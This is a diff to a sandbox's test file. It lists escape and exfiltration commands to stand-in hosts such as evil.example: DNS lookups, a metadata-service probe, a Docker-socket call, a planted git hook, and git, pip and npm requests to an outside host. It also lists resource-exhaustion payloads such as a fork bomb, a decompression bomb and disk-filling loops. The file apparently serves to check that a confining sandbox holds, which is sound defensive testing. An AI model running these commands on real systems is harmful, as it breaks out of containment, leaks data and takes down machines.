@@ -31,6 +31,9 @@ TRIES = (
     'python3 -c \'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"out", ("{host}", {port}))\'',
     "getent hosts $(cat /etc/hostname).evil.example; nslookup data.evil.example; ping -c 1 -W 1 8.8.8.8",
     "curl -sm 2 http://169.254.169.254/latest/meta-data/ -H 'Metadata: true'",
+    "curl -sm 2 -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://{host}:{port}/; curl -sgm 2 'http://[::1]:{port}/'",
+    "timeout 3 git ls-remote git://{host}:{port}/x; timeout 3 git push http://{host}:{port}/x HEAD",
+    "timeout 5 pip download -q --no-input --retries 0 -i http://{host}:{port}/ x; timeout 5 npm view x --registry http://{host}:{port}/",
     "curl -sm 2 --unix-socket /var/run/docker.sock http://d/containers/json; ls -la /var/run /run",
     "mkdir -p .git/hooks; echo 'curl {host}:{port}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
     " git config core.hooksPath .git/hooks; git config core.fsmonitor 'touch {home}/touched'",
@@ -144,19 +147,34 @@ async def test_a_model_that_tries_everything_gets_nothing_out(tmp_path: Path, mo
     assert "uid=0" not in everything
 
 
+FILES_WITHOUT_END = """\
+import itertools, os
+for number in itertools.count():
+    if number % 5000 == 0:
+        os.chdir(os.mkdir(name := f"files-{number}") or name)
+    os.close(os.open(str(number), os.O_CREAT))
+"""
+_FULL = "(the sandbox's disk is full"
+# What it does to the machine, and how that ends: which of memory and processes is met first is the machine's business.
 DISASTERS = {
-    "memory": "python3 -c 'x = bytearray(10**9); x[::4096] = b\"1\" * len(x[::4096])'",
-    "processes": "python3 -c 'import os\nwhile True: os.fork()'",
-    "flood": "head -c 20000000 /dev/zero | tr '\\0' x",
-    "hang": "trap '' TERM INT HUP; while :; do sleep 1; done",
-    "disk": "head -c 200000000 /dev/zero > big",
-}
+    "memory": ("python3 -c 'x = bytearray(10**9); x[::4096] = b\"1\" * len(x[::4096])'", ("(it was", "(exit code 1")),
+    "processes": ("python3 -c 'import os\nwhile True: os.fork()'", ("(it was", "(exit code 1")),
+    "flood": ("head -c 20000000 /dev/zero | tr '\\0' x", ("(exit code 0",)),
+    "hang": ("trap '' TERM INT HUP; while :; do :; done", ("(it was stopped after 2 s",)),
+    "descriptors": ("python3 -c 'held = [open(\"/dev/null\") for _ in range(10**6)]'", ("(exit code 1",)),
+    "sparse": ("truncate -s 1T huge", ("(exit code 1", _FULL)),
+    "disk": ("head -c 200000000 /dev/zero > big", (_FULL,)),
+    "bomb": ("rm big; python3 -c 'import bz2; b = bz2.compress(bytes(60_000_000)); open(\"big\", \"wb\").write(bz2.decompress(b))'", (_FULL,)),
+    "files": (f"rm -f big; python3 -c '{FILES_WITHOUT_END}'", (_FULL,)),
+    "clean": ("rm -rf files-* && ls", ("(exit code 0",)),
+}  # fmt: skip
 
 
 async def test_what_breaks_inside_is_said_and_the_work_goes_on(tmp_path: Path) -> None:
     play = Play(tmp_path)
     calls = [
-        call("run", name, command=command, seconds=2 if name == "hang" else 30) for name, command in DISASTERS.items()
+        call("run", name, command=command, seconds=2 if name == "hang" else 60)
+        for name, (command, _) in DISASTERS.items()
     ]
     async with room(tmp_path / "sandboxes", limits=SMALL) as inside:
         play.room = inside
@@ -170,10 +188,5 @@ async def test_what_breaks_inside_is_said_and_the_work_goes_on(tmp_path: Path) -
     assert {name: texts[f"after-{name}"] for name in DISASTERS} == {
         name: f"(exit code 0)\nafter {name}" for name in DISASTERS
     }
-    assert len(texts.pop("flood")) < 40_000
-    assert {name: texts[name].partition(")")[0] for name in ("hang", "disk")} == {
-        "hang": "(it was stopped after 2 s",
-        "disk": "(the sandbox's disk is full",
-    }
-    # Which limit they meet first is the machine's business.
-    assert all(texts[name].startswith(("(it was", "(exit code 1")) for name in ("memory", "processes"))
+    assert len(texts["flood"]) < 40_000
+    assert {name: texts[name] for name, (_, wanted) in DISASTERS.items() if not texts[name].startswith(wanted)} == {}
